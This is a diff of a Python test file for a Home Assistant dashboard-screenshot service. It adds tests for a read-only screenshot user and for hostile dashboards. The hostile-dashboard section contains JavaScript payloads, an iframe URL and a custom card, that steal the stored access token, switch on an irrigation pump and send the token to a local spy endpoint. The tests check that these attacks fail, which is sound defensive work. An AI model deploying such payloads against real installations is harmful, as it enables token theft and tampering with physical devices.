@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
+import logging
 import os
 import socket
 import struct
@@ -16,20 +18,17 @@ from typing import Any
 
 import pytest
 from farmhost_testing import Daemon, clean_env, drop, wait_result
-from ha_fixture import HaInstance
+from ha_fixture import HaInstance, WsSession
 
 from farmhost.config import Settings
 from farmhost.errors import FarmhostError, InvalidRequest, NotAllowed, NotFound, Unavailable
+from farmhost.farm import dashboard_policy
 from farmhost.farm.dashboards import url_path
 from farmhost.farm.deps import FarmDeps
-from farmhost.farm.screenshot import (
-    CHROMIUM_PATH,
-    capture,
-    ha_capture_screenshot,
-    open_screenshots_dir,
-    parse_params,
-    write_png,
-)
+from farmhost.farm.homeassistant import HAClient
+from farmhost.farm.screenshots import CHROMIUM_PATH, capture, ha_capture_screenshot, ha_user, parse_params
+from farmhost.farm.screenshots.files import open_screenshots_dir, write_png
+from farmhost.farm.screenshots.ha_user import USER_NAME
 from farmhost.ipc.handlers import RequestContext
 from farmhost.layout import DataLayout
 from farmhost.protocol.codes import ErrorCode
@@ -150,7 +149,13 @@ class Farm:
         )
 
     async def shoot(self, request_id: str, **params: Any) -> dict[str, Any]:
-        result: dict[str, Any] = await ha_capture_screenshot(self.deps, self.ctx(request_id), params)
+        """The action, with a real HA client on the admin token as the daemon has (none when HA is not set)."""
+        if not (self.settings.ha_url and self.settings.ha_token):
+            return await ha_capture_screenshot(self.deps, self.ctx(request_id), params)  # type: ignore[no-any-return]
+        async with HAClient(url=self.settings.ha_url, token=self.settings.ha_token) as ha:
+            result: dict[str, Any] = await ha_capture_screenshot(
+                dataclasses.replace(self.deps, ha=ha), self.ctx(request_id), params
+            )
         return result
 
 
@@ -283,15 +288,32 @@ async def test_unknown_dashboard_or_view_is_not_found(
     assert not any((farm.workspace / "screenshots").iterdir())
 
 
-async def test_refused_token_shows_the_login_page_and_is_an_upstream_error(
+async def test_a_refused_screenshot_token_shows_the_login_page_and_is_an_upstream_error(
+    tmp_path: Path, ha: HaInstance, dashboard: str
+) -> None:
+    ha.ensure_running()
+    with pytest.raises(FarmhostError) as caught:
+        await capture(
+            chromium=CHROMIUM_PATH,
+            base_url=ha.url,
+            token="not.a.token",
+            workspace=tmp_path,
+            name="x.png",
+            shot=parse_params({"dashboard": dashboard}),
+        )
+    assert caught.value.code is ErrorCode.UPSTREAM_ERROR
+    assert "login page" in caught.value.message
+    assert not any((tmp_path / "screenshots").iterdir())
+
+
+async def test_a_refused_admin_token_is_an_upstream_error_naming_ha_token(
     make_farm: Callable[..., Farm], ha: HaInstance, dashboard: str
 ) -> None:
     ha.ensure_running()
     farm = make_farm(ha.url, "not.a.token")
-    with pytest.raises(FarmhostError) as caught:
+    with pytest.raises(FarmhostError, match="HA_TOKEN") as caught:
         await farm.shoot("shot-badtoken", dashboard=dashboard)
     assert caught.value.code is ErrorCode.UPSTREAM_ERROR
-    assert "login page" in caught.value.message
     assert not any((farm.workspace / "screenshots").iterdir())
 
 
@@ -430,3 +452,140 @@ async def test_home_assistant_not_configured_is_unavailable(make_farm: Callable[
     farm = make_farm(None, None)
     with pytest.raises(Unavailable, match="not configured"):
         await farm.shoot("shot-off")
+
+
+# ------------------------------------------------------------------------------------------------ the read-only user
+
+
+def screenshot_users(ha: HaInstance) -> list[dict[str, Any]]:
+    with ha.ws() as ws:
+        return [u for u in ws.command("config/auth/list")["result"] if u["name"] == USER_NAME]
+
+
+def call_service_with(ha: HaInstance, token: str) -> dict[str, Any]:
+    """switch.turn_on on the pump, sent to HA itself with `token` (no farmhost in between)."""
+    with WsSession(ha.ws_url, token) as ws:
+        return ws.command(
+            "call_service", domain="switch", service="turn_on", target={"entity_id": "switch.irrigation_pump"}
+        )
+
+
+async def test_the_screenshot_user_is_read_only_created_once_reused_and_recreated_when_removed(
+    farm: Farm, dashboard: str, ha_reset: HaInstance
+) -> None:
+    ha = ha_reset
+    with ha.ws() as ws:  # an earlier test may have made one: start from none
+        for user in screenshot_users(ha):
+            ws.command("config/auth/delete", user_id=user["id"])
+
+    await farm.shoot("user-1", dashboard=dashboard)
+    first = ha_user.load(farm.db)
+    await farm.shoot("user-2", dashboard=dashboard)
+
+    assert first is not None and ha_user.load(farm.db) == first, "the second capture reused the user and token"
+    [user] = screenshot_users(ha)
+    assert user["id"] == first.user_id
+    assert (user["group_ids"], user["local_only"], user["is_owner"]) == (["system-read-only"], True, False)
+    refused = call_service_with(ha, first.token)
+    assert refused["success"] is False and refused["error"]["code"] in {"unauthorized", "home_assistant_error"}
+    assert ha.get_state("switch.irrigation_pump")["state"] == "off", "HA itself refused the screenshot token"
+    assert first.token != ha.token
+
+    with ha.ws() as ws:  # the operator removes it in HA: the next capture makes a new one
+        assert ws.command("config/auth/delete", user_id=first.user_id)["success"]
+    await farm.shoot("user-3", dashboard=dashboard)
+    second = ha_user.load(farm.db)
+    assert second is not None and second.user_id != first.user_id and second.token != first.token
+    assert [u["id"] for u in screenshot_users(ha)] == [second.user_id]
+
+
+# ------------------------------------------------------------------------------------------------ hostile dashboards
+
+JS_IFRAME = (
+    "javascript:(async()=>{const t=JSON.parse(localStorage.hassTokens).access_token;"
+    "await fetch('/api/services/switch/turn_on',{method:'POST',headers:{Authorization:'Bearer '+t},"
+    "body:JSON.stringify({entity_id:'switch.irrigation_pump'})});"
+    "const w=new WebSocket('ws://'+location.host+'/api/websocket');w.onmessage=m=>{"
+    "if(JSON.parse(m.data).type==='auth_required'){w.send(JSON.stringify({type:'auth',access_token:t}));"
+    "w.send(JSON.stringify({id:1,type:'call_service',domain:'switch',service:'turn_on',"
+    "target:{entity_id:'switch.irrigation_pump'}}))}};new Image().src='http://127.0.0.1:SPY/?t='+t})()"
+)
+EVIL_CARD_JS = """
+class EvilCard extends HTMLElement {
+  setConfig(config) {}
+  getCardSize() { return 1; }
+  set hass(hass) {
+    if (this.started) return;
+    this.started = true;
+    const token = JSON.parse(localStorage.hassTokens).access_token;
+    const pump = {entity_id: 'switch.irrigation_pump'};
+    Promise.allSettled([
+      hass.callService('switch', 'turn_on', pump),
+      hass.connection.sendMessagePromise({type: 'call_service', domain: 'switch', service: 'turn_on', target: pump}),
+      fetch('/api/services/switch/turn_on', {method: 'POST', headers: {Authorization: 'Bearer ' + token},
+                                             body: JSON.stringify(pump)}),
+      fetch('http://127.0.0.1:SPY/exfil?t=' + token),
+      fetch('/api/', {headers: {Authorization: 'Bearer ' + token}}),
+    ]).then(() => { this.innerHTML = '<div class="ran">evil card ran</div>'; });
+  }
+}
+customElements.define('evil-card', EvilCard);
+"""
+
+
+def save_dashboard(ha: HaInstance, name: str, cards: list[dict[str, Any]]) -> None:
+    """A dashboard made in HA directly (not through farmhost), as another HA user could."""
+    with ha.ws() as ws:
+        if not any(d["url_path"] == url_path(name) for d in ws.command("lovelace/dashboards/list")["result"]):
+            assert ws.command("lovelace/dashboards/create", url_path=url_path(name), title=name, mode="storage")[
+                "success"
+            ]
+        assert ws.command(
+            "lovelace/config/save", url_path=url_path(name), config={"views": [{"path": "v", "cards": cards}]}
+        )["success"]
+
+
+async def test_a_javascript_iframe_made_in_ha_is_refused_and_changes_nothing(
+    farm: Farm, ha_reset: HaInstance, spy: Spy
+) -> None:
+    cards = [{"type": "iframe", "url": JS_IFRAME.replace("SPY", str(spy.port)), "aspect_ratio": "50%"}]
+    save_dashboard(ha_reset, "hostile", cards)
+    policy_refuses = bool(dashboard_policy.violations({"views": [{"cards": cards}]}, dashboard_policy.ContentRules()))
+    try:
+        await farm.shoot("hostile-1", dashboard="hostile", selector="hui-iframe-card")
+        refused = False
+    except NotAllowed as err:
+        refused = True
+        assert "Home Assistant's dashboard '/farmhost-hostile'" in err.message
+    assert ha_reset.get_state("switch.irrigation_pump")["state"] == "off"
+    assert spy.hits == []
+    assert refused or not policy_refuses, "the content policy refuses a javascript: iframe URL"
+
+
+async def test_a_listed_custom_card_acting_through_the_frontend_changes_nothing(
+    farm: Farm, ha_reset: HaInstance, spy: Spy, caplog: pytest.LogCaptureFixture
+) -> None:
+    ha = ha_reset
+    www = ha.config_dir / "www"
+    if not www.is_dir():  # HA serves /local/ only when www/ existed at its start
+        www.mkdir()
+        ha.restart()
+    (www / "evil-card.js").write_text(EVIL_CARD_JS.replace("SPY", str(spy.port)))
+    with ha.ws() as ws:
+        resources = ws.command("lovelace/resources")["result"]
+        if not any(r["url"] == "/local/evil-card.js" for r in resources):
+            assert ws.command("lovelace/resources/create", res_type="module", url="/local/evil-card.js")["success"]
+    farm.settings.profile_path.write_text(json.dumps({"policy": {"dashboards": {"customCards": ["custom:evil-card"]}}}))
+    save_dashboard(ha, "evil", [{"type": "custom:evil-card"}])
+    caplog.set_level(logging.WARNING, logger="farmhost.farm.screenshots.confine")
+
+    result = await farm.shoot("evil-1", dashboard="evil", selector="evil-card .ran")
+
+    assert result["matched"] == 1, "the card ran every attempt before the picture"
+    assert ha.get_state("switch.irrigation_pump")["state"] == "off"
+    assert spy.hits == []
+    logged = " | ".join(r.getMessage() for r in caplog.records)
+    assert "the WebSocket command 'call_service'" in logged and "a POST request" in logged, logged
+    account = ha_user.load(farm.db)
+    assert account is not None and account.token != ha.token, "the browser held the screenshot user's token"
+    assert call_service_with(ha, account.token)["success"] is False
